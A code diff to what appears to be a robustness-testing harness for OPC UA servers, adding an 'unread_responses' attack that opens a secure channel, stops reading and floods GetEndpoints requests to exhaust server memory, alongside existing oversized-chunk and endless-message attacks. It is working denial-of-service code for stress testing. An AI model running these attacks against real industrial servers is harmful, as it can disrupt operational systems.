@@ -6,7 +6,9 @@ sends a Hello and then one of
 * ``huge_chunk``: a chunk header announcing a 100 MB chunk, then its body, never finished;
 * ``endless_message``: an OpenSecureChannel message (security policy None) as intermediate
   chunks of 64 KiB each, never a final one;
-* ``idle``: nothing more (holds a connection before any session).
+* ``idle``: nothing more (holds a connection before any session);
+* ``unread_responses``: opens a secure channel with policy None (allowed for discovery) and sends
+  GetEndpoints requests without ever reading the answers.
 
 Every attacker reuses one payload block, so its own memory stays flat; it returns how many bytes
 the server took before it closed the connection (or ``budget`` when it never did).
@@ -137,8 +139,56 @@ async def idle(target: Target, hold_s: float, source: str | None = None) -> bool
         writer.close()
 
 
+async def unread_responses(target: Target, budget: int, source: str | None = None) -> int:
+    """GetEndpoints requests (about 100 bytes each, answers of several KB) until ``budget``
+    bytes of answers would have been asked for (5 KB each), none of them read."""
+    from asyncua import Client
+    from asyncua.client.ua_client import UaClientState
+
+    client = Client(target.url, timeout=5)
+    uaclient = client.uaclient
+    try:
+        # asyncua's connect_socket, from ``source`` (it has no local address parameter)
+        await asyncio.get_running_loop().create_connection(
+            uaclient._make_protocol,
+            target.host,
+            target.port,
+            local_addr=(source, 0) if source else None,
+        )
+        uaclient._set_state(UaClientState.SOCKET_OPEN)
+        await client.send_hello()
+        await client.open_secure_channel()
+    except (ConnectionError, OSError, TimeoutError, ua.UaError):
+        client.disconnect_socket()
+        return 0
+    protocol = client.uaclient.protocol
+    assert protocol is not None and protocol.transport is not None
+    protocol.transport.pause_reading()
+    sent = 0
+    try:
+        for i in range(budget // 5000):
+            request = ua.GetEndpointsRequest()
+            request.Parameters = ua.GetEndpointsParameters(EndpointUrl=target.url)
+            protocol._send_request(request).add_done_callback(lambda f: f.exception())
+            sent += 5000
+            if i % 100 == 0:
+                await asyncio.sleep(0.01)
+                if protocol.transport is None or protocol.transport.is_closing():
+                    break
+        await asyncio.sleep(1)
+    except (ConnectionError, OSError):
+        pass
+    finally:
+        client.disconnect_socket()
+    return sent
+
+
 Attack = Callable[[Target, int, str | None], Awaitable[int]]
-ATTACKS: dict[str, Attack] = {"huge_chunk": huge_chunk, "endless_message": endless_message}
+ATTACKS: dict[str, Attack] = {
+    "huge_chunk": huge_chunk,
+    "endless_message": endless_message,
+    "unread_responses": unread_responses,
+}
 
 
 def rss_bytes(pid: int | str = "self", field: str = "VmRSS") -> int:
